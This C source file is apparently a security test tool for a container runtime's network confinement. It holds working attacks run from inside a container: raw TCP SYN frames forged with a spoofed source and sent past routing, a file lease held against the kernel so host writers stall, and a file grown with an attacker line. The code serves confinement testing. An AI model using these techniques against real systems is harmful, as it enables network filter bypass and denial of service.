// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * attack-net: attacks on berth's network confinement, from inside a
 * container. Subcommands:
 *   attack-net peer tcp|udp ADDR PORT
 *            a service on ADDR:PORT that answers each TCP connection (or
 *            UDP datagram) with "peer IP:PORT", the client's address as
 *            the service sees it (what a loopback-trusting admin endpoint
 *            would check); prints "listening" once bound
 *   attack-net ask tcp|udp ADDR PORT
 *            send "ping" to ADDR:PORT (a connection, or a datagram) and
 *            print the first line of the answer, or "refused" or
 *            "no-answer" (nothing within 2 s)
 *   attack-net lease FILE SECONDS
 *            take a read lease on FILE and hold it for SECONDS, ignoring
 *            the kernel's request to let go: whoever opens FILE for
 *            writing without O_NONBLOCK waits lease-break-time (45 s);
 *            prints "leased"
 *   attack-net grow FILE BYTES
 *            make FILE BYTES long (sparse) after a line of its own
 *   attack-net syn IFACE SRC DST PORT [VIA]
 *            forge a TCP SYN from SRC to DST:PORT as an Ethernet frame on
 *            IFACE (a packet socket: CAP_NET_RAW, in docker's default set),
 *            sent to the MAC address of VIA (default DST, found by ARP),
 *            whatever the routes say; prints "open" (a SYN-ACK came back),
 *            "closed" (a reset) or "silent" (nothing within 3 s)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int usage(void)
{
	fprintf(stderr, "attack-net: peer|ask|lease|grow|syn (see the source)\n");
	return 2;
}

static int peer(const char *proto, const char *addr, const char *port)
{
	bool udp = !strcmp(proto, "udp");
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)) };
	int s = socket(AF_INET, udp ? SOCK_DGRAM : SOCK_STREAM, 0), one = 1;

	if (s < 0 || inet_pton(AF_INET, addr, &a.sin_addr) != 1)
		return usage();
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || (!udp && listen(s, 16) < 0)) {
		perror("attack-net: peer");
		return 1;
	}
	printf("listening\n");
	fflush(stdout);
	for (;;) {
		struct sockaddr_in p;
		socklen_t pl = sizeof(p);
		char buf[2048], ip[INET_ADDRSTRLEN];
		int c = -1;
		if (udp) {
			if (recvfrom(s, buf, sizeof(buf), 0, (struct sockaddr *)&p, &pl) < 0)
				continue;
		} else if ((c = accept(s, (struct sockaddr *)&p, &pl)) < 0) {
			continue;
		}
		inet_ntop(AF_INET, &p.sin_addr, ip, sizeof(ip));
		int n = snprintf(buf, sizeof(buf), "peer %s:%u\n", ip, ntohs(p.sin_port));
		printf("%s", buf);
		fflush(stdout);
		if (udp) {
			sendto(s, buf, (size_t)n, 0, (struct sockaddr *)&p, pl);
		} else {
			if (write(c, buf, (size_t)n) != n)
				perror("attack-net: write");
			close(c);
		}
	}
}

static int ask(const char *proto, const char *addr, const char *port)
{
	bool udp = !strcmp(proto, "udp");
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)) };
	int s = socket(AF_INET, udp ? SOCK_DGRAM : SOCK_STREAM, 0);
	struct timeval tv = { .tv_sec = 2 };
	char buf[512];

	if (s < 0 || inet_pton(AF_INET, addr, &a.sin_addr) != 1)
		return usage();
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
	if (connect(s, (struct sockaddr *)&a, sizeof(a)) < 0 || send(s, "ping\n", 5, 0) < 0) {
		printf("%s\n", errno == ECONNREFUSED ? "refused" : strerror(errno));
		return 0;
	}
	ssize_t n = recv(s, buf, sizeof(buf) - 1, 0);
	if (n < 0 && errno == ECONNREFUSED) {
		printf("refused\n");
		return 0;
	}
	if (n <= 0) {
		printf("no-answer\n");
		return 0;
	}
	buf[n] = '\0';
	buf[strcspn(buf, "\r\n")] = '\0';
	printf("%s\n", buf);
	return 0;
}

static int lease(const char *file, int secs)
{
	int fd = open(file, O_RDONLY);

	/* the break request comes as SIGIO, which would end us (and the
	 * lease): ignored, the lease holds until the kernel's timeout */
	signal(SIGIO, SIG_IGN);
	if (fd < 0 || fcntl(fd, F_SETLEASE, F_RDLCK) < 0) {
		perror("attack-net: lease");
		return 1;
	}
	printf("leased\n");
	fflush(stdout);
	sleep((unsigned)secs);
	return 0;
}

static int grow(const char *file, long long bytes)
{
	int fd = open(file, O_WRONLY | O_APPEND);
	const char line[] = "10.6.6.6 attacker-was-here\n";

	if (fd < 0 || write(fd, line, sizeof(line) - 1) < 0 || ftruncate(fd, (off_t)bytes) < 0) {
		perror("attack-net: grow");
		return 1;
	}
	printf("grown to %lld\n", bytes);
	return 0;
}

/* ---- syn ---- */

struct arp_pkt {
	uint16_t htype, ptype;
	uint8_t hlen, plen;
	uint16_t op;
	uint8_t sha[6], spa[4], tha[6], tpa[4];
} __attribute__((packed));

static int own_mac(const char *iface, uint8_t mac[6])
{
	struct ifreq ifr = { 0 };
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", iface);
	if (s < 0 || ioctl(s, SIOCGIFHWADDR, &ifr) < 0)
		return -1;
	close(s);
	memcpy(mac, ifr.ifr_hwaddr.sa_data, 6);
	return 0;
}

static long ms_left(const struct timespec *end)
{
	struct timespec now;
	clock_gettime(CLOCK_MONOTONIC, &now);
	return (end->tv_sec - now.tv_sec) * 1000 + (end->tv_nsec - now.tv_nsec) / 1000000;
}

/* VIA's MAC address on the link, by ARP */
static int resolve(int ifindex, const uint8_t mine[6], struct in_addr src, struct in_addr via,
		   uint8_t out[6])
{
	int s = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ARP));
	struct sockaddr_ll to = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_ARP),
				  .sll_ifindex = ifindex,
				  .sll_halen = 6 };
	struct arp_pkt q = {
		.htype = htons(1), .ptype = htons(ETH_P_IP), .hlen = 6, .plen = 4, .op = htons(1)
	};

	if (s < 0) {
		perror("attack-net: packet socket");
		return -1;
	}
	memset(to.sll_addr, 0xff, 6);
	memcpy(q.sha, mine, 6);
	memcpy(q.spa, &src, 4);
	memcpy(q.tpa, &via, 4);
	for (int tries = 0; tries < 3; tries++) {
		struct timespec end;
		clock_gettime(CLOCK_MONOTONIC, &end);
		end.tv_sec += 1;
		sendto(s, &q, sizeof(q), 0, (struct sockaddr *)&to, sizeof(to));
		for (long left; (left = ms_left(&end)) > 0;) {
			struct pollfd p = { .fd = s, .events = POLLIN };
			struct arp_pkt r;
			if (poll(&p, 1, (int)left) <= 0)
				break;
			if (recv(s, &r, sizeof(r), 0) == (ssize_t)sizeof(r) && r.op == htons(2) &&
			    !memcmp(r.spa, &via, 4)) {
				memcpy(out, r.sha, 6);
				close(s);
				return 0;
			}
		}
	}
	close(s);
	return -1;
}

static uint16_t csum(const void *data, size_t len, uint32_t sum)
{
	const uint8_t *p = data;

	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
	if (len & 1)
		sum += (uint32_t)(p[len - 1] << 8);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static int syn(const char *iface, const char *src_s, const char *dst_s, int port, const char *via_s)
{
	int ifindex = (int)if_nametoindex(iface);
	struct in_addr src, dst, via;
	uint8_t mine[6], mac[6];
	struct {
		struct iphdr ip;
		struct tcphdr tcp;
	} __attribute__((packed)) pkt = { 0 };

	if (!ifindex || inet_pton(AF_INET, src_s, &src) != 1 ||
	    inet_pton(AF_INET, dst_s, &dst) != 1 || inet_pton(AF_INET, via_s, &via) != 1)
		return usage();
	if (own_mac(iface, mine) < 0 || resolve(ifindex, mine, src, via, mac) < 0) {
		printf("no-arp\n");
		return 1;
	}
	srand((unsigned)time(NULL) ^ (unsigned)getpid());
	uint16_t sport = (uint16_t)(40000 + rand() % 20000);
	pkt.ip.version = 4;
	pkt.ip.ihl = 5;
	pkt.ip.tot_len = htons(sizeof(pkt));
	pkt.ip.id = htons((uint16_t)rand());
	pkt.ip.ttl = 64;
	pkt.ip.protocol = IPPROTO_TCP;
	pkt.ip.saddr = src.s_addr;
	pkt.ip.daddr = dst.s_addr;
	pkt.ip.check = csum(&pkt.ip, sizeof(pkt.ip), 0);
	pkt.tcp.source = htons(sport);
	pkt.tcp.dest = htons((uint16_t)port);
	pkt.tcp.seq = htonl((uint32_t)rand());
	pkt.tcp.doff = 5;
	pkt.tcp.syn = 1;
	pkt.tcp.window = htons(65535);
	/* the pseudo-header's sum, then the segment's */
	uint8_t ph[12];
	memcpy(ph, &src, 4);
	memcpy(ph + 4, &dst, 4);
	ph[8] = 0;
	ph[9] = IPPROTO_TCP;
	ph[10] = 0;
	ph[11] = sizeof(pkt.tcp);
	uint32_t sum = 0;
	for (int i = 0; i < 12; i += 2)
		sum += (uint32_t)(ph[i] << 8 | ph[i + 1]);
	pkt.tcp.check = csum(&pkt.tcp, sizeof(pkt.tcp), sum);

	int s = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	struct sockaddr_ll to = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_IP),
				  .sll_ifindex = ifindex,
				  .sll_halen = 6 };
	memcpy(to.sll_addr, mac, 6);
	if (s < 0 || bind(s, (struct sockaddr *)&to, sizeof(to)) < 0 ||
	    sendto(s, &pkt, sizeof(pkt), 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
		perror("attack-net: syn");
		return 1;
	}
	struct timespec end;
	clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_sec += 3;
	for (long left; (left = ms_left(&end)) > 0;) {
		struct pollfd p = { .fd = s, .events = POLLIN };
		uint8_t buf[2048];
		if (poll(&p, 1, (int)left) <= 0)
			break;
		ssize_t n = recv(s, buf, sizeof(buf), 0);
		const struct iphdr *ip = (const void *)buf;
		if (n < (ssize_t)sizeof(pkt) || ip->protocol != IPPROTO_TCP ||
		    ip->saddr != dst.s_addr || ip->daddr != src.s_addr)
			continue;
		const struct tcphdr *t = (const void *)(buf + ip->ihl * 4);
		if ((size_t)n < ip->ihl * 4u + sizeof(*t) || t->source != htons((uint16_t)port) ||
		    t->dest != htons(sport))
			continue;
		printf("%s\n", t->syn && t->ack ? "open" : t->rst ? "closed" : "other");
		return 0;
	}
	printf("silent\n");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 5 && !strcmp(argv[1], "peer"))
		return peer(argv[2], argv[3], argv[4]);
	if (argc == 5 && !strcmp(argv[1], "ask"))
		return ask(argv[2], argv[3], argv[4]);
	if (argc == 4 && !strcmp(argv[1], "lease"))
		return lease(argv[2], atoi(argv[3]));
	if (argc == 4 && !strcmp(argv[1], "grow"))
		return grow(argv[2], atoll(argv[3]));
	if ((argc == 6 || argc == 7) && !strcmp(argv[1], "syn"))
		return syn(argv[2], argv[3], argv[4], atoi(argv[5]), argc == 7 ? argv[6] : argv[4]);
	return usage();
}
